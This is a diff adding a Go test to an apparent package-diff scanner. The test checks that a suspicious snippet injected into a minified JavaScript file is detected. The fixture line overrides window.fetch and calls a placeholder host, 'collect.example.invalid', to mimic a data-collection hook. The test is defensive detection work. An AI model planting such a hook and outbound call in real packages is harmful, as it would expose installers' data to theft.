@@ -585,3 +585,38 @@ func ctDemoReleases(t testing.TB) []ctDemoRelease {
 	}
 	return out
 }
+
+// TestContentTokenDiff: a minified file is diffed by tokens; the added
+// pieces are scanned from copies (chunk mode) and counted the same way.
+func TestContentTokenDiff(t *testing.T) {
+	var b strings.Builder
+	for i := range 3000 {
+		b.WriteString("var a" + strings.Repeat("b", i%5) + "=" + string(rune('0'+i%10)) + ";")
+	}
+	old := b.String()
+	injected := old[:20000] + "window.fetch=function(){};https.get('https://collect.example.invalid/x');" + old[20000:]
+	in := Input{Old: pkg(map[string]string{"m.min.js": old}), New: pkg(map[string]string{"m.min.js": injected})}
+	d, err := diff.Compare(stdctx.Background(), in.Old, in.New, diff.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(d.Files) != 1 || !d.Files[0].TokenDiff {
+		t.Fatalf("want one token-diffed file, got %+v", d.Files)
+	}
+	in.Diff = d
+	c := newContext(in)
+	contentSignals(c)
+	sigs := c.finish()
+	for _, id := range []string{NewEndpoint, WalletHook} {
+		if s := ctFind(sigs, id, "m.min.js"); s == nil || s.Line != 1 {
+			t.Errorf("%s on the minified line: %+v", id, s)
+		}
+	}
+	// The same file rebuilt with nothing new raises nothing.
+	c = newContext(Input{Old: in.New, New: pkg(map[string]string{"m.min.js": injected + "var z=1;"})})
+	c.in.Diff, _ = diff.Compare(stdctx.Background(), c.in.Old, c.in.New, diff.Options{})
+	contentSignals(c)
+	if len(c.signals) != 0 {
+		t.Errorf("rebuild with nothing new: %+v", c.signals)
+	}
+}
